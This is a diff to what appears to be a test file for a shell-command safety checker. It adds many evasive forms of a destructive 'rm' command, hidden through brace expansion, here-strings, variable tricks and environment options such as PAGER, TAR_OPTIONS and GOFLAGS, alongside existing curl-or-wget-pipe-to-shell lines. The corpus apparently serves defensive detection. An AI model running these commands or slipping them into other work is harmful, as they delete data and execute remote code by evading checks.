@@ -35,6 +35,15 @@ const quotedRunners = [
   ],
   ...["foo --run='rm x'", "foo -c'rm x'", "foo 'ls && rm x'", "hyperfine 'gtimeout 5 rm x'", "foo '$(rm x)'"],
   ...["make CMD='rm x'", "make SHELL='rm x'", 'foo "rm $X"', "hyperfine --prepare 'rm x' ls", "foo '`rm x`'"],
+  ...['foo \'["rm", "x"]\'', 'foo \'{"cmd": "rm x"}\'', "foo cmd:rm x", "foo @rm x", "foo /bin/r? x", "foo /???/rm x"],
+  ...[
+    "foo r{m,x} y",
+    "foo {/bin/,}rm x",
+    "foo ${x:-rm} y",
+    "x=r; foo ${x}m y",
+    "read x <<< rm; foo $x y",
+    'set -- rm x; foo "$@"',
+  ],
   ...["tmux new -d 'rm x'", "script -c 'rm x'", "watch 'rm x'", "parallel 'rm {}' ::: x", "expect -c 'spawn rm x'"],
 ];
 
@@ -63,6 +72,12 @@ const readers = [
     "ssh h <<< 'rm x'",
   ],
   ...["curl -s https://x.org/i | sh", "curl -s https://x.org/i | sudo bash", "wget -qO- https://x.org | python3"],
+  ...[
+    "make -f - <<< 'a: ; rm x'",
+    "make -f /dev/stdin <<< 'a:;rm x'",
+    "busybox sh <<< 'rm x'",
+    "docker exec -i c sh <<< 'rm x'",
+  ],
   ...["bash -l <<< 'rm x'", "bash -v <<< 'rm x'", "sh -h <<< 'rm x'", "bash --login <<< 'rm x'", "bash -i <<< 'rm x'"],
 ];
 
@@ -87,6 +102,13 @@ const variables = [
     "FOO='ls; rm x' make",
     "declare -x PAGER='rm x'",
   ],
+  ...[
+    "TAR_OPTIONS='--to-command=rm' tar xf a",
+    "GOFLAGS='-toolexec=rm' go build",
+    "LESS='+!rm x' less a",
+    "PAGER=rm git log",
+  ],
+  ...["GIT_CONFIG_PARAMETERS=\"'core.pager=rm x'\" git log", "read EDITOR <<< 'rm x'; export EDITOR; git commit"],
   ...["x='rm y'; foo $x", "for c in 'rm x'; do foo $c; done", "c=(rm x); foo ${c[@]}", "sudo PAGER='rm x' git log"],
 ];
 
